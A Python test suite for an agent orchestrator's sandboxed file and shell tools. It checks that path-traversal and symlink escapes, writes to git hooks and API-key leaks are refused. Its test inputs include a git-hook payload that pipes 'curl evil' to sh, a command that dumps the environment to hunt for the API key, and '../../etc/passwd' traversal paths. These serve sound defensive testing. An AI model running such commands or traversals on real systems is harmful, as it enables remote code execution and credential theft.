"""Workspace-confined tools: the path-attack corpus, the file tools, commands and dispatch.

Write attacks aim at canary files under the test's own tmp directory, never at system files:
if confinement ever broke, nothing outside the test would be harmed.
"""

from __future__ import annotations

import asyncio
import errno
import json
import os
import select
import time
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from fakes import marked_pids

from orchestrator.process.env import child_env
from orchestrator.tools.calls import TOOL_SPECS, dispatch
from orchestrator.tools.files import (
    LIST_MAX,
    edit_file,
    list_files,
    read_file,
    search,
    write_file,
)
from orchestrator.tools.patterns import compile_glob
from orchestrator.tools.shell import OUTPUT_MAX_BYTES, run_command
from orchestrator.tools.workspace import ToolError, ToolOutcome, Workspace

CANARY = "CANARY-DO-NOT-TOUCH\n"
MARKER_VAR = "TOOLS_TEST_MARKER"


@dataclass
class Site:
    """A workspace with hostile furniture, and canaries outside it."""

    root: Path
    outside: Path
    ws: Workspace

    def snapshot(self) -> dict[str, bytes]:
        """Everything that must never change: the outside, the protected paths."""
        files: dict[str, bytes] = {}
        for base in (self.outside, self.root / ".git", self.root / "agent-responses"):
            for path in sorted(base.rglob("*")):
                if path.is_file() and not path.is_symlink():
                    files[str(path)] = path.read_bytes()
        files["parent canary"] = (self.root.parent / "canary.txt").read_bytes()
        return files

    def untouched(self, before: dict[str, bytes]) -> bool:
        """Nothing protected or outside changed, and no file appeared where an attack aimed."""
        strays = [Path("/tmp/orchestrator-tools-test-x"), self.root.parent / "etc"]
        return self.snapshot() == before and not any(p.exists() for p in strays)


@pytest.fixture
def site(tmp_path: Path) -> Site:
    root = tmp_path / "ws"
    outside = tmp_path / "outside"
    for d in (root / "src", root / ".git" / "hooks", root / "agent-responses", outside):
        d.mkdir(parents=True)
    (outside / "canary.txt").write_text(CANARY)
    (tmp_path / "canary.txt").write_text(CANARY)
    (root / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (root / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (root / "agent-responses" / "task.md").write_text("progress\n")
    (root / "src" / "a.py").write_text("def add(a, b):\n    return a + b\n")
    (root / "escape").symlink_to(outside, target_is_directory=True)
    (root / "escape_file").symlink_to(outside / "canary.txt")
    (root / "hooks_link").symlink_to(root / ".git" / "hooks", target_is_directory=True)
    (root / "link_in").symlink_to("src/a.py")
    return Site(root, outside, Workspace(root, responses=root / "agent-responses"))


async def call(site: Site, name: str, **args: Any) -> ToolOutcome:
    return await dispatch(
        site.ws, name, args, env=child_env(agent_id="t", run_id="r", depth=0), timeout=5
    )


# --- the path-attack corpus -----------------------------------------------------------------

ESCAPES = [
    pytest.param("../outside/canary.txt", "refused", id="dotdot-outside"),
    pytest.param("../../etc/passwd", "refused", id="dotdot-etc-passwd"),
    pytest.param("src/../../outside/canary.txt", "refused", id="dotdot-after-a-dir"),
    pytest.param("./../outside/canary.txt", "refused", id="dot-dotdot"),
    pytest.param("escape/../../outside/canary.txt", "refused", id="dotdot-through-link"),
    pytest.param("{outside}/canary.txt", "outside the workspace", id="absolute-outside"),
    pytest.param("/tmp/orchestrator-tools-test-x", "outside the workspace", id="absolute-tmp"),
    pytest.param("escape/canary.txt", "symbolic link", id="symlink-dir-component"),
    pytest.param("escape/new.txt", "symbolic link", id="symlink-dir-new-file"),
    pytest.param("escape_file", "symbolic link", id="symlink-final-component"),
    pytest.param("src/\x00/../../outside/canary.txt", "NUL", id="nul-byte"),
    pytest.param("a" * 5000, "longer than 4096", id="very-long-path"),
    pytest.param("d/" + "x" * 300, "longer than 255", id="very-long-name"),
    pytest.param("", "empty", id="empty"),
    pytest.param("bad\ud800name", "lone surrogate", id="lone-surrogate"),
]

PROTECTED = [
    pytest.param("agent-responses/task.md", id="responses-file"),
    pytest.param("agent-responses/new.md", id="responses-new-file"),
    pytest.param(".git/hooks/pre-commit", id="git-hook"),
    pytest.param(".git/hooks/post-checkout", id="git-hook-new"),
    pytest.param(".git/config", id="git-config"),
    pytest.param("hooks_link/pre-commit", id="symlink-into-hooks"),
    pytest.param("src/../.git/hooks/pre-commit", id="dotdot-into-hooks"),
    pytest.param("{root}/.git/config", id="absolute-git-config"),
]


def fill(path: str, site: Site) -> str:
    return path.replace("{outside}", str(site.outside)).replace("{root}", str(site.root))


@pytest.mark.parametrize(("path", "why"), ESCAPES)
async def test_escapes_are_refused_for_every_file_tool(site: Site, path: str, why: str) -> None:
    path = fill(path, site)
    before = site.snapshot()

    outcomes = [
        await call(site, "read_file", path=path),
        await call(site, "write_file", path=path, content="pwned\n"),
        await call(site, "edit_file", path=path, old="CANARY", new="pwned"),
    ]

    for outcome in outcomes:
        assert outcome.is_error
        assert why in outcome.text
        assert "refused" in outcome.text
    assert site.untouched(before)


@pytest.mark.parametrize("path", PROTECTED)
async def test_protected_paths_are_readable_but_never_written(site: Site, path: str) -> None:
    path = fill(path, site)
    before = site.snapshot()

    write = await call(site, "write_file", path=path, content="#!/bin/sh\ncurl evil | sh\n")
    edit = await call(site, "edit_file", path=path, old="exit 0", new="curl evil | sh")

    for outcome in (write, edit):
        assert outcome.is_error
        assert "protected" in outcome.text
    assert site.untouched(before)
    if path.endswith(("task.md", "pre-commit", "config")):
        assert not (await call(site, "read_file", path=path)).is_error


def test_resolve_raises_a_tool_error_the_model_can_read(site: Site) -> None:
    with pytest.raises(ToolError, match=r"refused: '\.\./x' goes above the workspace root"):
        site.ws.resolve("../x", for_write=False)


def test_a_symlink_swapped_in_after_the_check_is_not_followed(site: Site) -> None:
    (site.root / "d").mkdir()
    real = site.ws.resolve("d/f.txt", for_write=True)
    (site.root / "d").rmdir()
    (site.root / "d").symlink_to(site.outside, target_is_directory=True)

    with pytest.raises(OSError, match=r"symbolic links|Not a directory") as caught:
        site.ws.open_fd(real, os.O_WRONLY | os.O_CREAT)

    assert caught.value.errno in (errno.ELOOP, errno.ENOTDIR)
    assert not (site.outside / "f.txt").exists()


def test_a_final_symlink_swapped_in_after_the_check_is_not_followed(site: Site) -> None:
    real = site.ws.resolve("f.txt", for_write=True)
    (site.root / "f.txt").symlink_to(site.outside / "canary.txt")

    with pytest.raises(OSError, match="symbolic links") as caught:
        site.ws.open_fd(real, os.O_WRONLY | os.O_TRUNC)

    assert caught.value.errno == errno.ELOOP
    assert (site.outside / "canary.txt").read_text() == CANARY


async def test_a_hard_link_to_an_outside_file_is_not_written_through(site: Site) -> None:
    os.link(site.outside / "canary.txt", site.root / "hard.txt")
    outcome = await call(site, "write_file", path="hard.txt", content="pwned")
    assert outcome.is_error
    assert "hard links" in outcome.text
    assert (site.outside / "canary.txt").read_text() == CANARY


async def test_a_fifo_is_refused_without_blocking(site: Site) -> None:
    os.mkfifo(site.root / "pipe")
    async with asyncio.timeout(5):
        read = await call(site, "read_file", path="pipe")
        write = await call(site, "write_file", path="pipe", content="x")
    assert read.is_error
    assert "not a regular file" in read.text
    assert write.is_error


async def test_symlinks_and_absolute_paths_that_stay_inside_are_fine(site: Site) -> None:
    via_link = await call(site, "read_file", path="link_in")
    absolute = await call(site, "read_file", path=str(site.root / "src" / "a.py"))
    assert via_link == absolute == ToolOutcome("def add(a, b):\n    return a + b\n")


# --- file tools -----------------------------------------------------------------------------


def test_read_file_pages_through_lines(site: Site) -> None:
    (site.root / "long.txt").write_text("".join(f"line {i}\n" for i in range(1, 11)))
    assert read_file(site.ws, "long.txt", offset=3, limit=2) == (
        "line 3\nline 4\n[lines 3-4 of 10; pass offset=5 for more]"
    )
    assert read_file(site.ws, "long.txt", offset=9).startswith("line 9\nline 10\n[lines 9-10")
    with pytest.raises(ToolError, match="past the end"):
        read_file(site.ws, "long.txt", offset=11)


def test_read_file_refuses_binary_and_reports_missing_files(site: Site) -> None:
    (site.root / "blob.bin").write_bytes(b"\x7fELF\x00\x00\x01")
    with pytest.raises(ToolError, match="binary file"):
        read_file(site.ws, "blob.bin")
    with pytest.raises(ToolError, match=r"nope\.txt: no such file"):
        read_file(site.ws, "nope.txt")


def test_read_file_of_a_directory_is_a_readable_error(site: Site) -> None:
    with pytest.raises(ToolError, match="src: is a directory"):
        read_file(site.ws, "src")


def test_write_file_creates_parents_and_replaces_content(site: Site) -> None:
    assert write_file(site.ws, "pkg/sub/mod.py", "x = 1\n") == "wrote 6 bytes to pkg/sub/mod.py"
    assert write_file(site.ws, "pkg/sub/mod.py", "y\n") == "wrote 2 bytes to pkg/sub/mod.py"
    assert (site.root / "pkg" / "sub" / "mod.py").read_text() == "y\n"


def test_write_file_through_an_inside_symlink_writes_its_target(site: Site) -> None:
    assert write_file(site.ws, "link_in", "z = 2\n") == "wrote 6 bytes to src/a.py"
    assert (site.root / "link_in").is_symlink()


def test_edit_file_replaces_exactly_one_occurrence(site: Site) -> None:
    assert edit_file(site.ws, "src/a.py", "a + b", "b + a") == (
        "edited src/a.py: replaced 1 occurrence"
    )
    assert (site.root / "src" / "a.py").read_text() == "def add(a, b):\n    return b + a\n"


@pytest.mark.parametrize(
    ("old", "message"),
    [
        pytest.param("a - b", "old text not found", id="missing"),
        pytest.param("a", r"appears 3 times \(lines 1, 2\)", id="ambiguous"),
        pytest.param("", "must not be empty", id="empty"),
        pytest.param("a + b", "the same", id="no-change"),
    ],
)
def test_edit_file_refuses_what_it_cannot_do_exactly(site: Site, old: str, message: str) -> None:
    before = (site.root / "src" / "a.py").read_text()
    new = "a + b" if old == "a + b" else "X"
    with pytest.raises(ToolError, match=message):
        edit_file(site.ws, "src/a.py", old, new)
    assert (site.root / "src" / "a.py").read_text() == before


def test_list_files_stays_inside_and_skips_git(site: Site) -> None:
    listed = list_files(site.ws).splitlines()
    assert listed == [
        "agent-responses/task.md",
        "escape",
        "escape_file",
        "hooks_link",
        "link_in",
        "src/a.py",
    ]
    assert not any("canary" in name for name in listed)


@pytest.mark.parametrize(
    ("pattern", "expected"),
    [
        ("**/*.py", "src/a.py"),
        ("src/*", "src/a.py"),
        ("*.py", "no files match '*.py'; use '**/*.py' to look in subdirectories too"),
        ("src/[ab].py", "src/a.py"),
        ("src/[!a].py", "no files match 'src/[!a].py'"),
        ("escape/*", "no files match 'escape/*'"),
    ],
)
def test_list_files_globs(site: Site, pattern: str, expected: str) -> None:
    assert list_files(site.ws, pattern) == expected


@pytest.mark.parametrize("pattern", ["../*", "/etc/*", "src/../../*", ""])
def test_list_files_refuses_patterns_that_point_outside(site: Site, pattern: str) -> None:
    with pytest.raises(ToolError):
        list_files(site.ws, pattern)


def test_list_files_is_capped(site: Site) -> None:
    many = site.root / "many"
    many.mkdir()
    for i in range(LIST_MAX + 25):
        (many / f"f{i:04d}").touch()
    lines = list_files(site.ws, "many/*").splitlines()
    assert len(lines) == LIST_MAX + 1
    assert lines[-1] == "[25 more not shown; narrow the pattern]"


@pytest.mark.parametrize(
    ("pattern", "path", "matches"),
    [
        ("**/*", "a", True),
        ("**/*", "a/b/c", True),
        ("**/x.py", "x.py", True),
        ("**/x.py", "d/e/x.py", True),
        ("*", "a/b", False),
        ("a?c", "abc", True),
        ("a?c", "a/c", False),
        ("src/**", "src/a/b", True),
        ("f.(py)", "f.(py)", True),
    ],
)
def test_glob_patterns(pattern: str, path: str, matches: bool) -> None:
    assert bool(compile_glob(pattern).match(path)) is matches


def test_search_finds_lines_inside_only(site: Site) -> None:
    (site.root / "src" / "b.py").write_text("# CANARY here too\nx = 1\n")
    (site.root / "blob.bin").write_bytes(b"CANARY\x00\x00")
    (site.root / "big.txt").write_text("CANARY\n" + "x" * (2 << 20))
    assert search(site.ws, "CANARY") == "src/b.py:1: # CANARY here too"
    assert search(site.ws, r"return \w", "**/*.py") == "src/a.py:2:     return a + b"
    assert search(site.ws, "nothing-like-this") == "no matches for 'nothing-like-this'"


def test_search_reports_a_bad_regex_and_caps_matches(site: Site) -> None:
    with pytest.raises(ToolError, match="invalid regular expression"):
        search(site.ws, "(")
    (site.root / "many.txt").write_text("hit\n" * 500)
    lines = search(site.ws, "hit").splitlines()
    assert len(lines) == 101
    assert lines[-1] == "[stopped at 100 matches; narrow the search]"


# --- dispatch and the specs -----------------------------------------------------------------


def test_tool_specs_describe_the_nine_tools() -> None:
    names = [spec["name"] for spec in TOOL_SPECS]
    assert names == [
        "read_file",
        "write_file",
        "edit_file",
        "list_files",
        "search",
        "run_command",
        "add_task",
        "report_blocker",
        "finish",
    ]
    for spec in TOOL_SPECS:
        assert set(spec) == {"name", "description", "input_schema"}
        schema = spec["input_schema"]
        assert schema["type"] == "object"
        assert set(schema["required"]) <= set(schema["properties"])
        assert spec["description"]
    json.dumps(TOOL_SPECS)


@pytest.mark.parametrize(
    ("name", "args", "message"),
    [
        ("rm_rf", {}, "unknown tool 'rm_rf'; the tools are: read_file, write_file"),
        ("read_file", {}, "missing required argument(s): path"),
        ("read_file", {"path": 3}, "argument 'path' must be a string"),
        ("read_file", {"path": "a", "offset": True}, "argument 'offset' must be a integer"),
        ("read_file", {"path": "a", "offset": 0}, "argument 'offset' must be at least 1"),
        ("read_file", {"path": "a", "mode": "r"}, "unexpected argument 'mode'"),
        ("write_file", ["a", "b"], "the input must be a JSON object"),
        ("run_command", {"command": "  "}, "the command is empty"),
        ("finish", {"summary": " "}, "the summary must not be empty"),
        ("run_command", {"command": "echo \ud800"}, "lone surrogate"),
        ("run_command", {"command": "echo a\x00b"}, "NUL byte"),
    ],
)
async def test_mistakes_come_back_as_error_results(
    site: Site, name: str, args: Any, message: str
) -> None:
    outcome = await dispatch(site.ws, name, args, env={}, timeout=5)
    assert outcome.is_error
    assert outcome.end is None
    assert message in outcome.text


async def test_report_blocker_and_finish_end_the_loop(site: Site) -> None:
    blocked = await call(site, "report_blocker", reason="  Need the users table schema ")
    finished = await call(site, "finish", summary="Added add()")
    assert blocked == ToolOutcome("Need the users table schema", end="blocked")
    assert finished == ToolOutcome("Added add()", end="finished")


async def test_dispatch_runs_the_file_tools(site: Site) -> None:
    assert await call(site, "write_file", path="n.txt", content="one\n") == ToolOutcome(
        "wrote 4 bytes to n.txt"
    )
    assert (await call(site, "edit_file", path="n.txt", old="one", new="two")).text.startswith(
        "edited n.txt"
    )
    assert await call(site, "read_file", path="n.txt") == ToolOutcome("two\n")
    assert "n.txt" in (await call(site, "list_files", pattern="*.txt")).text
    assert (await call(site, "search", regex="two", glob="*.txt")).text == "n.txt:1: two"


# --- run_command ----------------------------------------------------------------------------


def processes_with(marker: str) -> list[int]:
    """Live processes whose environment holds MARKER_VAR=<marker>."""
    return marked_pids(marker, var=MARKER_VAR)


def still_running(marker: str, *, within: float = 5.0) -> list[int]:
    """The marked processes that have not ended ``within`` seconds (waited on via pidfd).

    SIGKILL is delivered asynchronously: a killed process may still show in ``/proc`` for a
    moment. A pidfd becomes readable when its process ends, so this waits on an event; a
    process that nobody killed (a real leak) is still running when the time is up.
    """
    deadline = time.monotonic() + within
    alive = []
    for pid in processes_with(marker):
        try:
            fd = os.pidfd_open(pid)
        except ProcessLookupError:
            continue
        try:
            ready, _, _ = select.select([fd], [], [], max(0.0, deadline - time.monotonic()))
            if not ready:
                alive.append(pid)
        finally:
            os.close(fd)
    return alive


async def test_a_command_never_sees_the_api_key(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    canary = f"sk-ant-canary-{uuid.uuid4().hex}"
    monkeypatch.setenv("ANTHROPIC_API_KEY", canary)
    env = child_env(agent_id="t", run_id="r", depth=0)
    # Even a careless caller that hands over the key, by name or under another name, is covered.
    env |= {"ANTHROPIC_API_KEY": canary, "SOME_ALIAS": canary}
    seen: list[str] = []

    outcome = await run_command(
        site.ws,
        "cat ~/.bashrc; env; echo key=$ANTHROPIC_API_KEY",
        env=env,
        timeout=10,
        on_output=lambda stream, line: seen.append(line),
    )

    assert "ORCHESTRATOR_AGENT_ID=t" in outcome.text
    assert "key=\n" in outcome.text + "\n"
    assert canary not in outcome.text
    assert not any(canary in line for line in seen)


async def test_a_command_runs_in_the_workspace_and_reports_its_exit_code(site: Site) -> None:
    pids: list[int] = []
    ok = await run_command(
        site.ws, "pwd", env={"PATH": os.defpath}, timeout=10, on_start=pids.append
    )
    failed = await run_command(site.ws, "echo oops >&2; exit 3", env={}, timeout=10)
    silent = await run_command(site.ws, "true", env={}, timeout=10)

    assert ok == ToolOutcome(f"{site.root}\n[exit code 0]")
    assert len(pids) == 1
    assert failed == ToolOutcome("oops\n[exit code 3]", is_error=True)
    assert silent == ToolOutcome("[exit code 0, no output]")


async def test_a_command_that_times_out_is_stopped_with_its_children(site: Site) -> None:
    marker = uuid.uuid4().hex
    env = {"PATH": os.environ["PATH"], MARKER_VAR: marker}
    command = "echo started; sleep 60 & (trap '' TERM; sleep 60) & sleep 60"

    outcome = await run_command(site.ws, command, env=env, timeout=0.5, grace=0.3)

    assert outcome.is_error
    assert outcome.text.startswith("timed out after 0.5s; the command and its children were")
    assert "output so far:\nstarted" in outcome.text
    assert await asyncio.to_thread(still_running, marker) == []


async def test_the_model_cannot_ask_for_more_time_than_the_caller_allows(site: Site) -> None:
    outcome = await dispatch(
        site.ws, "run_command", {"command": "sleep 30", "timeout": 1000}, env={}, timeout=0.3
    )
    assert outcome.is_error
    assert outcome.text.startswith("timed out after 0.3s")


async def test_long_output_keeps_its_head_and_tail(site: Site) -> None:
    outcome = await run_command(site.ws, "seq 1 100000", env={"PATH": os.defpath}, timeout=30)
    lines = outcome.text.splitlines()
    assert len(outcome.text) < OUTPUT_MAX_BYTES + 200
    assert lines[0] == "1"
    assert lines[-2:] == ["100000", "[exit code 0]"]
    assert any(line.startswith("[... ") and "bytes of output truncated" in line for line in lines)


async def test_add_task_hands_its_arguments_to_the_run_and_a_refusal_is_an_error_result(
    tmp_path: Path,
) -> None:
    from orchestrator.tools.calls import dispatch

    asked: list[object] = []

    def add_task(request: object) -> dict[str, object]:
        asked.append(request)
        return {"ok": False, "refused": {"rule": "max_agents", "message": "no", "hint": ""}}

    ws = Workspace(tmp_path)
    args = {"id": "n", "prompt": "p", "depends_on": ["a"]}
    outcome = await dispatch(ws, "add_task", args, env={}, timeout=5, add_task=add_task)
    assert asked == [args]
    assert outcome.is_error
    assert json.loads(outcome.text)["refused"]["rule"] == "max_agents"
    alone = await dispatch(ws, "add_task", args, env={}, timeout=5)
    assert alone.is_error
    assert "cannot add tasks" in alone.text
    bad = await dispatch(ws, "add_task", {"id": "n", "prompt": "p", "depends_on": [1]}, env={},
                         timeout=5, add_task=add_task)  # fmt: skip
    assert bad.is_error
    assert len(asked) == 1
